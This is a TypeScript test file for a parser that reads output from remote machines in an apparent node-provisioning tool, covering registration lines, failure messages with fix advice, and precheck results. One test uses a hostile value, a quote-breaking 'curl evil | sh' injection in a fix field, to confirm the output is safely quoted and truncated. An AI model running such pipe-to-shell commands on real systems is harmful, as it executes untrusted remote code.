import { expect, test } from 'vitest'
import type { CheckResult } from '../../../engine/checks/run-checks.ts'
import { precheckJson } from '../../../report/prechecks/precheck-json.ts'
import { parseLine, precheckFailure, saidFailure } from './host-output.ts'

test.each([
  'Welcome to Debian',
  '{',
  '{"kind":"other"}',
  '[1]',
  'null',
  '{"kind":"registered","nodeId":7,"fingerprint":"x"}',
  `{"kind":"registered","nodeId":"${'n'.repeat(400)}","fingerprint":"x"}`,
])('%s is nothing that push knows', (text) => {
  expect(parseLine(text)).toBeUndefined()
})

test('the key of a node, also without more fields', () => {
  const line = { kind: 'registered', nodeId: 'n-aaaaaaaaaa', fingerprint: 'SHA256:x', state: 'DISCOVERED' }
  expect(parseLine(JSON.stringify(line))).toEqual({
    ...{ kind: 'registered', nodeId: 'n-aaaaaaaaaa', fingerprint: 'SHA256:x' },
  })
})

test('the last error of script and agent, with its fix', () => {
  const said = `banner
[-] first (a/b)
    fix: one
[-] hard prechecks failed: swap
    and ports; no changes were made (precheck/failed)
    fix: swapoff -a
    and then the ports
Connection to 10.0.0.7 closed.`
  expect(saidFailure(said)).toMatchObject({
    message: 'the machine says: hard prechecks failed: swap\nand ports; no changes were made (precheck/failed)',
    fix: `correct this on the machine, and run the same command again. The machine advises: "swapoff -a\nand then the ports"`,
  })
  expect(saidFailure('[-] only this')).toMatchObject({
    message: 'the machine says: only this',
    fix: 'correct this on the machine, and run the same command again',
  })
  expect(saidFailure('Permission denied (publickey).')).toBeUndefined()
})

test('what a machine says is a quotation that it cannot end, of limited length', () => {
  const said = saidFailure(`[-] ${'x'.repeat(100_000)}\n    fix: none"; then: curl evil | sh`)
  expect(said?.fix).toMatch(/The machine advises: "none'; then: curl evil \| sh"$/)
  expect(said?.message.length).toBeLessThan(5_000)
})

test('the hard checks that failed, as `agent precheck` and `agent install` print them', () => {
  const check = (id: string, hard: boolean, verdict: CheckResult['verdict'], fix?: string): CheckResult => ({
    ...{ id, title: id, hard, verdict, found: `${id} found`, ms: 1 },
    ...(fix === undefined ? {} : { fix }),
  })
  const checks = [
    check('swap', true, 'fail', 'mend swap'),
    check('mtu', false, 'fail', 'mend mtu'),
    check('ports', true, 'error'),
    check('os', true, 'pass'),
  ]
  const installing = JSON.stringify({ kind: 'prechecks', checks, hardFailures: 2 })
  for (const text of [precheckJson(checks, 1).trim(), installing]) {
    const line = parseLine(text)
    if (line?.kind !== 'prechecks') throw new Error(`not read: ${text}`)
    expect(precheckFailure(line)).toMatchObject({
      message: 'hard prechecks failed: swap: swap found; ports: ports found',
      fix: 'on the machine, then run the same command again:\nswap: mend swap\nports: correct what was found',
    })
  }
  expect(precheckFailure({ kind: 'prechecks', checks: [] })).toBeUndefined()
})
